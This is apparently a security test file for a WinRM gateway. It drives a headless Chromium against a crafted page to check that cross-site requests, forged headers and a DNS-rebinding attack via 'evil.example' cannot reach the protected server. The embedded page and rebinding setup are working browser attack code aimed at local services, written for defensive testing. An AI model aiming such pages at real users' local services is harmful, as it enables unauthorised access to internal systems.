# SPDX-License-Identifier: MIT
# Copyright (c) 2026 The gss-winrm authors
"""A web page makes the user's browser send requests to the gateway.

A real Chromium of the gateway's own user, in a network namespace of the
test's: every kind of request that a page can cause, a name that has two
addresses (DNS rebinding), and the gateway as the browser's proxy.
"""

import contextlib
import ctypes
import json
import os
import shutil
import socket
import struct
import subprocess
import threading
import urllib.parse

import place_front as front

WEB01, EVIL = "web01.corp.example", "evil.example"
SERVER, ROGUE = "10.99.0.1", "127.0.0.2"
ADDRESSES = {WEB01: [SERVER], EVIL: [ROGUE, "127.0.0.1"]}
FLAGS = ["--headless", "--no-sandbox", "--disable-gpu", "--disable-quic",
         "--no-first-run", "--disable-background-networking",
         "--disable-component-update", "--disable-sync",
         "--disable-dev-shm-usage", "--disable-breakpad",
         "--disable-features=AsyncDns,DnsOverHttps"]
# What a page can do, each with its own query; "preconnect" has none.
KINDS = ["nocors", "soap", "xhr", "beacon", "form", "formget", "image",
         "script", "frame", "events", "socket", "keepalive"]
PAGE = """<!DOCTYPE html><body><script>
const soap = "<s:Envelope/>", type = "application/soap+xml;charset=UTF-8";
const bases = %(bases)s;
const pause = ms => new Promise(r => setTimeout(r, ms));
const add = (name, set) => document.body.appendChild(
    Object.assign(document.createElement(name), set));
function form(url, method, field) {
  const name = "f" + Math.random();
  add("iframe", {name});
  const f = add("form", {action: url, method, enctype: "text/plain",
                         target: name});
  f.appendChild(Object.assign(document.createElement("input"), field));
  f.submit();
}
const kinds = {
  nocors: u => fetch(u, {method: "POST", mode: "no-cors", body: soap,
                         credentials: "include"}),
  soap: u => fetch(u, {method: "POST", body: soap, headers: {
      "Content-Type": type, "Authorization": "NTLM TlRMTVNTUAABAAAA"}}),
  xhr: u => { const x = new XMLHttpRequest(); x.open("POST", u); x.send(soap)},
  beacon: u => navigator.sendBeacon(u, soap),
  form: u => form(u, "POST", {name: "<x a='", value: "'/>"}),
  formget: u => form(u, "GET", {name: "kind", value: "formget"}),
  image: u => add("img", {src: u}), script: u => add("script", {src: u}),
  frame: u => add("iframe", {src: u}), events: u => new EventSource(u),
  socket: u => new WebSocket(u.replace("http:", "ws:")),
  keepalive: u => fetch(u, {method: "POST", mode: "no-cors", body: soap,
                            keepalive: true}),
};
async function all() {
  add("link", {rel: "preconnect", href: "%(quiet)s"});
  for (const base of bases) {
    add("link", {rel: "preconnect", href: base});
    for (const [name, call] of Object.entries(kinds)) {
      try {
        Promise.resolve(call(base + "?kind=" + name)).catch(e => e);
      } catch (e) { }
      await pause(50);
    }
  }
  await pause(1500);
}
%(before)s.then(all).then(() => %(after)s).then(
    text => fetch("%(done)s?saw=" + encodeURIComponent(text),
                  {mode: "no-cors"}));
</script>"""


def inside(netns, call, *arguments):
    """What call returns, in a thread that is in this network namespace."""
    result = []

    def work():
        libc = ctypes.CDLL(None, use_errno=True)
        with open(f"/run/netns/{netns}", "rb") as f:
            if libc.setns(f.fileno(), 0x40000000) != 0:
                raise OSError(ctypes.get_errno(), "setns")
        result.append(call(*arguments))

    thread = threading.Thread(target=work)
    thread.start()
    thread.join()
    return result[0]


class Upstream(front.Upstream):
    """As front's, in the namespace, at WinRM's port of web01."""

    def __init__(self, t, netns):
        self.host, self.port, self.hold, self.requests = WEB01, 5985, False, []
        self.listener = inside(netns, socket.create_server, (SERVER, 5985))
        t.defer(self.listener.close)
        threading.Thread(target=self.accept, daemon=True).start()


class Pages:
    """A server that notes each request and has the page."""

    def __init__(self, t, netns, host="127.0.0.1", port=0):
        self.requests, self.connections, self.page = [], 0, b""
        self.done = threading.Event()
        self.listener = inside(netns, socket.create_server, (host, port))
        self.url = "http://%s:%d" % self.listener.getsockname()
        t.defer(self.close)
        threading.Thread(target=self.accept, daemon=True).start()

    def close(self):
        with contextlib.suppress(OSError):
            self.listener.shutdown(socket.SHUT_RDWR)
        self.listener.close()

    def accept(self):
        with contextlib.suppress(OSError):
            while True:
                one, _ = self.listener.accept()
                self.connections += 1
                threading.Thread(target=self.serve, args=(one,),
                                 daemon=True).start()

    def serve(self, one):
        with one, one.makefile("rb") as file, \
                contextlib.suppress(ConnectionError):
            line = file.readline().decode(errors="replace")
            length = 0
            for header in iter(file.readline, b"\r\n"):
                if not header:
                    return
                if header.lower().startswith(b"content-length:"):
                    length = int(header.split(b":")[1])
            file.read(length)
            self.requests.append(line.strip())
            if "/rebind" in line:
                self.close()
            if "/done" in line:
                self.done.set()
            body = self.page if line.startswith("GET / ") else b""
            one.sendall(b"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\n"
                        b"Connection: close\r\nContent-Length: %d\r\n\r\n%s"
                        % (len(body), body))

    def kinds(self):
        return {urllib.parse.parse_qs(line.split(" ")[1].partition("?")[2])
                .get("kind", ["-"])[0] for line in self.requests if line}

    def put(self, bases, pages, quiet="", before="Promise.resolve()",
            after='""'):
        """The page; quiet: where it is to connect only."""
        self.page = (PAGE % {
            "bases": json.dumps(bases), "quiet": quiet, "before": before,
            "after": after, "done": f"{pages.url}/done"}).encode()


def answer(query):
    """To a question for an A record; nothing to others."""
    labels, at = [], 12
    while query[at]:
        labels.append(query[at + 1:at + 1 + query[at]].decode())
        at += query[at] + 1
    kind = struct.unpack("!H", query[at + 1:at + 3])[0]
    found = ADDRESSES.get(".".join(labels).lower(), []) if kind == 1 else []
    known = ".".join(labels).lower() in ADDRESSES
    return query[:2] + struct.pack(
        "!5H", 0x8180 if known else 0x8183, 1, len(found), 0, 0) + \
        query[12:at + 5] + b"".join(
            b"\xc0\x0c" + struct.pack("!HHIH", 1, 1, 600, 4) +
            socket.inet_aton(address) for address in found)


def resolve(t, netns):
    sock = inside(netns, socket.socket, socket.AF_INET, socket.SOCK_DGRAM)
    sock.bind(("127.0.0.1", 53))

    def serve():
        with contextlib.suppress(OSError):
            while True:
                query, client = sock.recvfrom(4096)
                sock.sendto(answer(query), client)

    t.defer(sock.close)
    threading.Thread(target=serve, daemon=True).start()


def make_netns(t):
    name = f"gss-winrm-attack-{os.getpid()}"
    # "ip netns exec" puts them over those of /etc.
    etc = f"/etc/netns/{name}"
    os.makedirs(etc)
    t.defer(shutil.rmtree, etc)
    for file, text in (("resolv.conf", "nameserver 127.0.0.1\n"),
                       ("nsswitch.conf", "hosts: files dns\n"),
                       ("hosts", "127.0.0.1 localhost\n")):
        with open(f"{etc}/{file}", "w", encoding="ascii") as f:
            f.write(text)
    subprocess.run(["ip", "netns", "add", name], check=True)
    t.defer(lambda: subprocess.run(["ip", "netns", "delete", name],
                                   check=False))
    subprocess.run(["ip", "-n", name, "link", "set", "lo", "up"], check=True)
    # With an entry of its own an address is as near as 127.0.0.1, and stays
    # first where a name has both.
    for address in (SERVER, ROGUE):
        subprocess.run(["ip", "-n", name, "addr", "add", f"{address}/32",
                        "dev", "lo"], check=True)
    return name


def browse(t, user, url, done, *flags):
    """Until the page says that it is through."""
    home = t.dir / "chrome"
    if home.exists():
        shutil.rmtree(home)
    home.mkdir(mode=0o700)
    os.chown(home, front.UID, front.UID)
    with open(t.dir / "chrome.log", "ab") as log:
        process = t.start(
            user.as_user(["chromium", *FLAGS, f"--user-data-dir={home}/data",
                          *flags, url]), stdout=log, stderr=log,
            start_new_session=True,
            env={"PATH": os.environ["PATH"], "HOME": str(home),
                 "XDG_RUNTIME_DIR": str(home)})
        through = done.wait(3 * front.PATIENCE)
        t.stop(process)
    done.clear()
    return through


def raw(user, port, *headers, target="/wsman"):
    """The status of a request that only looks like a page's."""
    text = "\r\n".join([f"POST {target} HTTP/1.1", *headers, front.SOAP,
                        front.NTLM, "Content-Length: 4", "", "<x/>"])
    script = ("import socket, sys\n"
              "s = socket.create_connection(('127.0.0.1', int(sys.argv[1])))\n"
              "s.sendall(sys.argv[2].encode())\n"
              "print(s.recv(4096).decode(errors='replace'))\n")
    done = subprocess.run(
        user.as_user(["/usr/bin/python3", "-c", script, str(port), text]),
        text=True, capture_output=True, check=False)
    return done.stdout[9:12]


class Scene:
    """The user's two gateways, and who watches them."""

    def __init__(self, t):
        self.t, self.netns = t, make_netns(t)
        resolve(t, self.netns)
        self.upstream = Upstream(t, self.netns)
        self.user = front.Front(t, self.upstream, netns=self.netns)
        self.any = self.user.port
        self.user.start_gateway("--target", f"{WEB01}:5985")
        self.fixed, self.user.port = self.user.port, self.any
        self.pages = Pages(t, self.netns)
        self.control = Pages(t, self.netns)
        self.quiet = Pages(t, self.netns)

    def counted(self, what, sent):
        """Nothing has reached the server; sent: that the browser did."""
        got = self.upstream.requests
        self.t.rogue(f"{what}: {got or 'nothing'} reached the server")
        self.t.ok(not got, f"{what}: nothing reaches the server", str(got))
        self.t.ok(not sent, f"{what}: the browser sent it (a control)",
                  f"{sent}\n{self.user.said()[-900:]}")
        got.clear()

    def legal(self):
        got = self.user.legal()
        self.t.ok(got == "here\n 200" and len(self.upstream.requests) == 1,
                  "what is no page's reaches the server (a control)",
                  f"{got!r}, {self.upstream.requests}")
        self.upstream.requests.clear()


def from_a_page(scene):
    """All that a page can do, to every address of the gateways."""
    t, pages, control = scene.t, scene.pages, scene.control
    bases = [f"{control.url}/wsman"]
    for port in (scene.any, scene.fixed):
        bases += [f"http://{host}:{port}/wsman" for host in (
            "127.0.0.1", "localhost", f"{WEB01}.localhost")]
    pages.put(bases, pages, scene.quiet.url)
    through = browse(t, scene.user, f"{pages.url}/", pages.done)
    missing = set(KINDS) - control.kinds()
    if not scene.quiet.connections or any(scene.quiet.requests):
        missing.add("preconnect")
    if not through:
        missing.add("the page's end")
    scene.counted("a page", missing)
    said = scene.user.said()
    t.ok("web pages are not served" in said and "accepts only POST" in said,
         "the gateways saw a page's requests", said[-900:])


def rebound(scene):
    """A page of a name that has the gateway's address as well."""
    for what, port in (("any", scene.any), ("one", scene.fixed)):
        rogue = Pages(scene.t, scene.netns, ROGUE, port)
        where = f"http://{EVIL}:{port}"
        # After that the browser has the second address only; and what answers
        # there the page may read, since it is its own.
        rogue.put([f"{where}/wsman"], scene.pages,
                  before=f'fetch("{where}/rebind").then(() => pause(300))',
                  after=f'fetch("{where}/wsman").then(r => r.text())')
        scene.pages.requests.clear()
        browse(scene.t, scene.user, f"{where}/", scene.pages.done)
        saw = [r for r in scene.pages.requests if "/done" in r]
        scene.t.rogue(f"the page read: {urllib.parse.unquote(''.join(saw))}")
        scene.counted(f"DNS rebinding, a gateway for {what}",
                      set() if "gss-winrm-gateway" in "".join(saw) else saw
                      or rogue.requests or {"nothing"})


def as_proxy(scene):
    """The gateway is the browser's proxy for the server's name."""
    pages, control = scene.pages, scene.control
    control.requests.clear()
    bases = [f"http://{WEB01}:5985/wsman", "http://control.example/wsman"]
    pages.put(bases, pages)
    address = control.url.removeprefix("http://")
    script = ("function FindProxyForURL(u, h) { return "
              f"h == '{WEB01}' ? 'PROXY 127.0.0.1:{scene.any}' : "
              f"h == 'control.example' ? 'PROXY {address}' : 'DIRECT'; }}")
    through = browse(
        scene.t, scene.user, f"{pages.url}/", pages.done,
        "--proxy-pac-url=data:application/x-ns-proxy-autoconfig," +
        urllib.parse.quote(script))
    # A proxy's client does not open a WebSocket without a tunnel.
    missing = set(KINDS) - {"socket"} - control.kinds()
    scene.counted("a proxy's absolute URI",
                  missing if through else {"the page's end"})


def forged(scene):
    """What an old or odd browser might leave away."""
    evil = f"Host: {EVIL}:{scene.fixed}"
    own = f"Host: 127.0.0.1:{scene.fixed}"
    for what, port, *headers in (
            ("another Host", scene.fixed, evil),
            ("another port in Host", scene.fixed, "Host: 127.0.0.1:1"),
            ("no Host", scene.fixed),
            ("only Sec-Fetch-Site", scene.fixed, own,
             "Sec-Fetch-Site: cross-site"),
            ("the same at the other gateway", scene.any,
             f"Host: {WEB01}.localhost:{scene.any}",
             "Sec-Fetch-Site: same-site")):
        status = raw(scene.user, port, *headers)
        scene.t.ok(status in ("400", "403", "500") and
                   not scene.upstream.requests, f"refused: {what}",
                   f"{status}, {scene.upstream.requests}")
        scene.upstream.requests.clear()
    status = raw(scene.user, scene.fixed, own, "Sec-Fetch-Site: none")
    scene.t.ok(status == "200" and len(scene.upstream.requests) == 1,
               "what is no page's is served there (a control)",
               f"{status}, {scene.upstream.requests}")
    scene.upstream.requests.clear()


def packaged():
    policy = subprocess.run(["apt-cache", "policy", "chromium"], check=False,
                            text=True, stdout=subprocess.PIPE,
                            env=dict(os.environ, LC_ALL="C")).stdout
    return "Candidate: " in policy and "Candidate: (none)" not in policy


def attack(t):
    if shutil.which("chromium") is None:
        if packaged():
            t.ok(False, "there is a browser",
                 "tests/deps.sh attacks installs it")
        else:
            t.skip("what a page in a real browser can do",
                   "this release has no package of Chromium (Ubuntu: a snap)")
        return
    scene = Scene(t)
    scene.legal()
    from_a_page(scene)
    rebound(scene)
    as_proxy(scene)
    forged(scene)
    scene.legal()
